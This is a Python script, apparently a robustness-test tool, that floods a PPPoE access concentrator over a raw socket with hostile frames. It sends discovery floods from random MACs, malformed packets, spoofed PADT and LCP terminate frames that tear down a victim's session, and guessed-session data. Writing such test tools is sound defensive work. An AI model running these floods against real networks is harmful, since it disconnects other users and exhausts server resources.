#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""What a hostile neighbour sends, as fast as it can, until SIGTERM: flood.py DEV AC-MAC KIND [SID MAC]

KIND is a row of KINDS. SID and MAC are those of a session: its own (…-own) or a victim's. Says "sending"
when it has begun, and at the end how many frames it sent and in how many seconds. PPS in the
environment: so many frames a second, not as many as it can.
"""
import os
import random
import signal
import socket
import struct
import sys
import time

DISCOVERY, SESSION = 0x8863, 0x8864
PADI, PADR, PADT = 0x09, 0x19, 0xA7
IP, LCP, IPCP, IPV6CP, CHAP = 0x0021, 0xC021, 0x8021, 0x8057, 0xC223
FRAMES, BURST = 4096, 64
rng = random.Random(2516)


def mac(text):
    return bytes(int(x, 16) for x in text.split(":"))


def any_mac():
    return bytes([0x02, 0x66]) + rng.randbytes(4)


def frame(dst, src, ethertype, code, sid, payload):
    pppoe = struct.pack("!HBBHH", ethertype, 0x11, code, sid, len(payload)) + payload
    return (dst + src + pppoe).ljust(60, b"\0")


def tag(kind, value=b""):
    return struct.pack("!HH", kind, len(value)) + value


def padi(_, src):
    return frame(b"\xff" * 6, src, DISCOVERY, PADI, 0, tag(0x0101) + tag(0x0103, rng.randbytes(8)))


def padr(ac, src):
    return frame(ac, src, DISCOVERY, PADR, 0, tag(0x0101) + tag(0x0104, rng.randbytes(16)))


def padt(ac, src, sid):
    return frame(ac, src, DISCOVERY, PADT, sid, b"")


def ppp(ac, src, sid, protocol, payload):
    return frame(ac, src, SESSION, 0, sid, struct.pack("!H", protocol) + payload)


def control(code, body=b""):
    return struct.pack("!BBH", code, rng.randrange(256), 4 + len(body)) + body


def udp4(src, dst):
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28, 0, 0, 64, 17, 0, src, dst) + struct.pack("!HHHH", 9, 9, 8, 0)


def echo():
    return control(9, struct.pack("!I", rng.randrange(1 << 32)))


def bad(ac, own):
    """Discovery with something wrong: its code, its session id, its tags, its destination."""
    dst = rng.choice((ac, b"\xff" * 6, any_mac()))
    return frame(dst, own, DISCOVERY, rng.choice((PADI, PADR, PADT, 0x42)), rng.randrange(3), rng.randbytes(rng.randrange(40)))


KINDS = {
    "bad-own": lambda ac, sid, own: bad(ac, own),
    "bad-many": lambda ac, sid, own: bad(ac, any_mac()),
    "padi-one": lambda ac, sid, own: padi(ac, b"\x02\x66\0\0\0\1"),
    "padi-many": lambda ac, sid, own: padi(ac, any_mac()),
    "padi-own": lambda ac, sid, own: padi(ac, own),
    "padr-one": lambda ac, sid, own: padr(ac, b"\x02\x66\0\0\0\1"),
    "padr-many": lambda ac, sid, own: padr(ac, any_mac()),
    "padt-guess": lambda ac, sid, own: padt(ac, any_mac(), rng.randrange(1, 65536)),
    "padt-victim": lambda ac, sid, own: padt(ac, any_mac(), sid),
    "terminate-victim": lambda ac, sid, own: ppp(ac, any_mac(), sid, LCP, control(5)),
    "data-guess": lambda ac, sid, own: ppp(
        ac, any_mac(), rng.randrange(1, 65536), IP, udp4(b"\x64\x40\x0a\x0a", b"\xc0\0\2\2")),
    "echo-own": lambda ac, sid, own: ppp(ac, own, sid, LCP, echo()),
    "request-own": lambda ac, sid, own: ppp(ac, own, sid, rng.choice((LCP, IPCP, IPV6CP)), control(1)),
    "login-own": lambda ac, sid, own: ppp(ac, own, sid, CHAP, control(2, b"\x10" + rng.randbytes(16) + b"x")),
    "junk-own": lambda ac, sid, own: ppp(ac, own, sid, rng.randrange(1, 65536, 2), rng.randbytes(30)),
}


def main(dev, ac, kind, sid="1", own="02:66:00:00:00:02"):
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((dev, 0))
    frames = [KINDS[kind](mac(ac), int(sid), mac(own)) for _ in range(FRAMES)]
    over, pps = [], int(os.environ.get("PPS", "0"))
    signal.signal(signal.SIGTERM, lambda *_: over.append(True))
    begin, sent, lost = time.monotonic(), 0, 0
    print("sending", flush=True)
    while not over:
        for i in range(0, FRAMES, BURST):
            for f in frames[i:i + BURST]:
                try:
                    sock.send(f)
                    sent += 1
                except OSError:  # ENOBUFS: the link is full
                    lost += 1
            ahead = (sent + lost) / pps - (time.monotonic() - begin) if pps else 0
            if ahead > 0:
                time.sleep(ahead)
    print("%s: %d frames in %.1f s, %d not sent" % (kind, sent, time.monotonic() - begin, lost))
    return 0


if __name__ == "__main__":
    sys.exit(main(*sys.argv[1:]))
